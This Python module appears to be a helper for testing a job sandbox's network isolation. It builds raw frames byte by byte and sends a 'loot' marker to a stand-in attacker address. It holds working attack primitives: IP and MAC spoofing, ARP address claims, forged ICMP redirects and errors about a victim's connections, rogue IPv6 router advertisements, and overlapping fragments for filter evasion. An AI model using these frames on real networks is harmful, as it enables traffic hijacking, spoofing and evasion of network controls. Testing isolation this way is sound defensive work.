"""Packets for network-attacks.py: built byte by byte, and put on the job's wire past every socket layer."""

import functools
import socket
import struct

# Each attack gets an address of its own, so that the log's line is its own too.
target = "203.0.113.66"
ATTACKER_6 = "2001:db8:66::66"
IP, ARP, IP6 = 0x0800, 0x0806, 0x86DD
# What is carried out; no protocol begins so.
LOOT = b"(loot-of-a-job!)"


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def own_address():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.connect((target, 9))
        return s.getsockname()[0]


def gateway_address():
    with open("/proc/net/route") as file:
        for line in file.readlines()[1:]:
            fields = line.split()
            if fields[1] == "00000000":
                return socket.inet_ntoa(struct.pack("<I", int(fields[2], 16)))
    raise OSError("no default route")


def own_link():
    with open("/sys/class/net/eth0/address") as file:
        return bytes.fromhex(file.read().strip().replace(":", ""))


def gateway_link():
    with open("/proc/net/arp") as file:
        return bytes.fromhex(file.readlines()[1].split()[3].replace(":", ""))


@functools.cache
def card():
    """One socket for all frames: to close one takes the kernel a while."""
    opened = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    opened.bind(("eth0", 0))
    return opened


def send(kind, packet, to=None, source=None):
    """One frame; by default from the job's card to the gateway's."""
    return card().send((to or gateway_link()) + (source or own_link()) + struct.pack("!H", kind) + packet)


def ip(protocol, payload, source=None, destination=None, fragment=0, options=b"", first=None):
    words = 5 + len(options) // 4
    head = struct.pack(
        "!BBHHHBBH4s4s", (0x40 | words) if first is None else first, 0, words * 4 + len(payload), 7, fragment, 64,
        protocol, 0, socket.inet_aton(source or own_address()), socket.inet_aton(destination or target),
    ) + options
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload


def udp(payload=LOOT, port=4444, source_port=5555):
    return struct.pack("!HHHH", source_port, port, 8 + len(payload), 0) + payload


def tcp(flags, payload=b"", source=None, destination=None, port=443, source_port=6666, sequence=1000):
    head = struct.pack("!HHIIBBHHH", source_port, port, sequence, 0, 0x50, flags, 65535, 0, 0)
    pseudo = socket.inet_aton(source or own_address()) + socket.inet_aton(destination or target)
    pseudo += struct.pack("!BBH", 0, 6, len(head) + len(payload))
    sum_ = checksum(pseudo + head + payload)
    return head[:16] + struct.pack("!H", sum_) + head[18:] + payload


def icmp(kind, code=0, rest=b"\0\1\0\1", payload=LOOT):
    packet = struct.pack("!BBH", kind, code, 0) + rest + payload
    return packet[:2] + struct.pack("!H", checksum(packet)) + packet[4:]


def ip6(next_header, payload, destination=ATTACKER_6, source="fe80::2"):
    head = struct.pack("!IHBB", 0x60000000, len(payload), next_header, 255)
    return head + socket.inet_pton(socket.AF_INET6, source) + socket.inet_pton(socket.AF_INET6, destination) + payload


def arp(operation, sender, target):
    return struct.pack("!HHBBH", 1, IP, 6, 4, operation) + own_link() + socket.inet_aton(sender) + \
        b"\0" * 6 + socket.inet_aton(target)


def v4_frame(*arguments, **options):
    return send(IP, ip(*arguments, **options))


def fragments(*parts):
    """`(offset in units of 8, more to come, bytes)` each."""
    for offset, more, data in parts:
        v4_frame(17, data, fragment=(0x2000 if more else 0) | offset)
    return "sent"


def every_protocol():
    """Each IP protocol but ICMP, TCP and UDP."""
    for number in set(range(256)) - {1, 6, 17}:
        v4_frame(number, LOOT)
    return "sent"


def address_option(kind, hops):
    """Loose (131) or strict (137) source route; padded."""
    option = struct.pack("!BBB", kind, 3 + 4 * len(hops), 4) + b"".join(socket.inet_aton(hop) for hop in hops)
    return option + b"\0" * (-len(option) % 4)


def quoting(kind, code, source, destination, rest):
    """An ICMP error about a flow of somebody else's."""
    quoted = ip(6, tcp(2, source=source, destination=destination)[:8], source=source, destination=destination)
    return icmp(kind, code, rest, quoted)


def icmp_errors(victim):
    """Unreachable, too big (of 68 bytes) and a redirect to the job, about connections of the gateway's machine."""
    for kind, code, rest in ((3, 1, b"\0\0\0\0"), (3, 4, b"\0\0\0\x44"), (5, 1, socket.inet_aton(own_address()))):
        v4_frame(1, quoting(kind, code, victim, "198.51.100.10", rest), destination=victim)
    return "sent"


def vlan(tag, inner=IP):
    return struct.pack("!HH", tag, inner) + ip(17, udp())


FRAMES = {
    "spoofed-udp": lambda source: v4_frame(17, udp(), source=source),
    "spoofed-tcp": lambda source: v4_frame(6, tcp(2, source=source), source=source),
    "spoofed-echo": lambda source: v4_frame(1, icmp(8), source=source),
    "spoofed-dns": lambda source: v4_frame(17, udp(port=53), source=source),
    "gateway-mac": lambda: send(IP, ip(17, udp()), source=gateway_link()),
    "other-mac": lambda: send(IP, ip(17, udp()), to=b"\2\0\0\0\0\7"),
    "broadcast-mac": lambda: send(IP, ip(17, udp()), to=b"\xff" * 6),
    "multicast-mac": lambda: send(IP, ip(17, udp(), destination="224.0.0.1"), to=bytes.fromhex("01005e000001")),
    "loose-route": lambda: v4_frame(17, udp(), options=address_option(131, [target]), destination="198.51.100.10"),
    "strict-route": lambda: v4_frame(6, tcp(2), options=address_option(137, [target]), destination="192.0.2.1"),
    "record-route": lambda: v4_frame(1, icmp(8), options=b"\7\x0b\4" + b"\0" * 9),
    "router-alert": lambda: v4_frame(17, udp(), options=b"\x94\4\0\0"),
    "bad-header": lambda first: v4_frame(17, udp(), first=int(first, 16)),
    "port-zero": lambda: v4_frame(17, udp(port=0)),
    "from-port-zero": lambda: v4_frame(17, udp(source_port=0)),
    "bad-udp": lambda: v4_frame(17, struct.pack("!HHHH", 5555, 4444, 3, 0xBEEF) + LOOT),
    "fragments": lambda: fragments((0, True, udp(b"x" * 56)[:32]), (4, False, b"x" * 32)),
    "fragments-overlap": lambda: fragments((0, True, udp(LOOT * 2)[:32]), (2, False, LOOT * 2)),
    "fragments-tiny": lambda: fragments((0, True, udp()[:8]), (1, False, LOOT)),
    "fragment-first": lambda: fragments((0, True, udp(LOOT * 4))),
    "fragment-last": lambda: fragments((100, False, LOOT)),
    "fragment-tcp": lambda: v4_frame(6, tcp(2)[:8], fragment=0x2000) and v4_frame(6, tcp(2)[8:], fragment=1),
    "fragment-dns": lambda: v4_frame(17, udp(port=53), fragment=0x2000),
    "fragment-reserved": lambda: v4_frame(17, udp(), fragment=0x8000),
    "protocols": every_protocol,
    "gre": lambda: v4_frame(47, struct.pack("!HH", 0, IP) + ip(17, udp(), source="10.0.0.1")),
    "ip-in-ip": lambda: v4_frame(4, ip(17, udp(), source="10.0.0.1")),
    "6in4": lambda: v4_frame(41, ip6(17, udp(), source="2001:db8:2::10")),
    "sctp": lambda: v4_frame(132, struct.pack("!HHII", 5, 443, 0, 0) + struct.pack("!BBH", 1, 0, 20) + LOOT),
    "icmp": lambda kind: v4_frame(1, icmp(int(kind))),
    "icmp-errors": lambda victim: icmp_errors(victim),
    "flags": lambda flags, port="443": v4_frame(6, tcp(int(flags, 16), LOOT, port=int(port))),
    "simultaneous": lambda: [v4_frame(6, tcp(2, LOOT, sequence=at)) for at in (1000, 2000)] and "sent",
    "tcp-loopback": lambda: v4_frame(6, tcp(2, destination="127.0.0.1", port=7777), destination="127.0.0.1"),
    "udp-loopback": lambda: v4_frame(17, udp(port=7777), destination="127.0.0.1"),
    "udp-to": lambda destination, port: v4_frame(17, udp(port=int(port)), destination=destination),
    "arp-ask": lambda target: send(ARP, arp(1, own_address(), target), to=b"\xff" * 6),
    "arp-claim": lambda address: send(ARP, arp(2, address, address), to=b"\xff" * 6),
    "v6-udp": lambda destination=ATTACKER_6: send(IP6, ip6(17, udp(), destination)),
    "v6-tcp-link": lambda: send(IP6, ip6(6, tcp(2, port=7777), "fe80::54:47ff:fe00:1")),
    "v6-mapped": lambda: send(IP6, ip6(17, udp(), "::ffff:" + target, "::ffff:" + own_address())),
    "v6-advertisement": lambda: send(IP6, ip6(58, struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0), "ff02::1")),
    "v6-solicitation": lambda: send(IP6, ip6(58, struct.pack("!BBHI", 135, 0, 0, 0) + b"\xfe\x80" + b"\0" * 14, "ff02::1")),
    "v6-redirect": lambda: send(IP6, ip6(58, struct.pack("!BBHI", 137, 0, 0, 0) + b"\0" * 32, "ff02::1")),
    "v6-fragment": lambda: send(IP6, ip6(44, struct.pack("!BBHI", 17, 0, 1, 7) + udp())),
    "vlan": lambda tag: send(0x8100, vlan(int(tag))),
    "vlan-double": lambda: send(0x88A8, struct.pack("!HH", 5, 0x8100) + vlan(7)),
    "mpls": lambda: send(0x8847, struct.pack("!I", 16 << 12 | 1 << 8 | 64) + ip(17, udp())),
    "pppoe": lambda: send(0x8864, struct.pack("!BBHHH", 0x11, 0, 1, 60, 0x21) + ip(17, udp())),
    "lldp": lambda: send(0x88CC, LOOT * 4, to=bytes.fromhex("0180c200000e")),
}
